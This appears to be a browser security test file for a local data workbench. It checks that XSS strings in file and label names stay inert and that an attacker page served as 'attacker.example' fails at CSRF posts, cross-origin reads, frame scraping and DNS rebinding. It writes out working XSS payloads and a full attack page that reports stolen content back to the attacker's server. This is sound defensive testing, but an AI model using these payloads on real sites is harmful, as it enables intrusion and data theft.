// What others send, and names that are meant to be run. SPDX-License-Identifier: MIT
import assert from "node:assert/strict";
import { createServer } from "node:http";

import { dropFile, ready } from "./bench.mjs";

export async function names_are_shown_and_never_run(bench) {
  bench.run("init", bench.curves);
  const evil = "<img src=x onerror=alert(1)>\"'&`${1}";
  const file = bench.write("p.csv", `Roshko,Strouhal\n${Array.from({ length: 20 }, (_, i) => `${10 + i * 10},${1300 - i}`).join("\n")}\n`);
  const page = await bench.open();
  await dropFile(page, file, "<b>p</b>.csv");
  await page.getByText("Recognised: a table of 20 points").waitFor();
  await page.getByLabel("Meter", { exact: true }).last().fill(evil.replace("'", ""));
  await page.getByLabel("Series", { exact: true }).fill("<script>alert(2)</script>");
  await page.getByRole("dialog").getByRole("button", { name: "Import", exact: true }).click();
  await page.getByRole("heading", { name: "<script>alert(2)</script>" }).waitFor();
  await page.waitForFunction(() => document.body.dataset.fitMs);
  assert.equal(await page.locator("img, main script").count(), 0);
  await bench.picture(page, "names");
}

// The attacker's page. It ends with "end" once everything that it tried has come to something.
const strangePage = (victim) => `<!doctype html><title>strange</title>
  <iframe name=page src="${victim}/"></iframe><iframe name=answer src="about:blank"></iframe><img id=icon src="${victim}/icon.svg">
  <form id=post method=post target=answer action="${victim}/api/store" enctype="text/plain"><input name='{"meter":"M1","series":"Rotor A","x":"' value='"}'></form>
  <script>
  const say = (text) => fetch("/got?" + encodeURIComponent(text));
  const seen = (name) => { try { return frames[name].document.body.textContent.trim(); } catch { return ""; } };
  const tells = (name, promise) => promise.then((text) => say(name + ": " + text), () => {});
  const asks = (path, options) => fetch("${victim}" + path, { credentials: "include", ...options });
  const post = (type, more) => asks("/api/store", { method: "POST", headers: { "Content-Type": type }, body: "{}", ...more });
  addEventListener("load", async () => {
    const answered = new Promise((done) => document.getElementsByName("answer")[0].addEventListener("load", done, { once: true }));
    document.getElementById("post").submit();
    await answered;
    await Promise.all([...["/", "/api/meters", "/main.js"].map((path) => tells(path, asks(path).then((answer) => answer.text()))),
      post("text/plain", { mode: "no-cors" }).catch(() => {}), tells("post", post("application/json").then((answer) => answer.status)),
      tells("module", import("${victim}/main.js").then(() => "runs"))]);
    for (const name of ["page", "answer"]) if (seen(name)) await say("frame " + name + ": " + seen(name));
    if (document.getElementById("icon").naturalWidth) await say("icon");
    await say("end");
  });
  </script>`;

export async function a_strange_page_gets_nothing(bench) {
  bench.calibrated();
  const address = new URL(await bench.address()), room = address.pathname.split("/")[1];
  const before = bench.digest(), got = [];
  const strange = createServer((request, response) => {
    if (request.url.startsWith("/got")) { got.push(decodeURIComponent(request.url.split("?")[1])); return response.end(); }
    response.setHeader("content-type", "text/html");
    response.end(strangePage(`http://127.0.0.1:${address.port}/${room}`));
  }).listen(0, "127.0.0.1");
  await new Promise((done) => strange.once("listening", done));
  try {
    // Every name that the attacker likes resolves to this machine.
    const context = await bench.context({}, await bench.browsers.launch("--host-resolver-rules=MAP *.example 127.0.0.1"));
    const page = await context.newPage();
    await page.goto(address.href);
    await page.waitForURL((url) => !url.pathname.endsWith("open"));
    await ready(page);
    const asked = new Set(), answers = [], visitor = await context.newPage();
    const inside = (url) => url.includes(`:${address.port}/`) ? url.replace(/.*\/[0-9a-f]{32}/, "") : null;
    // Of an answer that the browser keeps from the page, only the request is seen.
    visitor.on("request", (request) => asked.add(inside(request.url())));
    visitor.on("response", (response) => { if (inside(response.url())) answers.push([inside(response.url()), response.status()]); });
    await visitor.goto(`http://attacker.example:${strange.address().port}/`);
    await visitor.waitForFunction(() => performance.getEntriesByType("resource").some((entry) => entry.name.endsWith("got?end")));
    assert.deepEqual(got, ["end"]);
    for (const [path, status] of answers) assert.ok([401, 403, 405, 415].includes(status), `${path}: ${status}`);
    for (const path of ["/", "/icon.svg", "/api/store", "/api/meters"]) assert.ok(asked.has(path), `the page did not ask for ${path}`);
    // DNS rebinding: the attacker's name at the workbench's port.
    const rebound = await visitor.goto(`http://attacker.example:${address.port}/${room}/`);
    assert.equal(rebound.status(), 421);
  } finally {
    strange.closeAllConnections();
    strange.close();
  }
  assert.equal(bench.digest(), before);
}
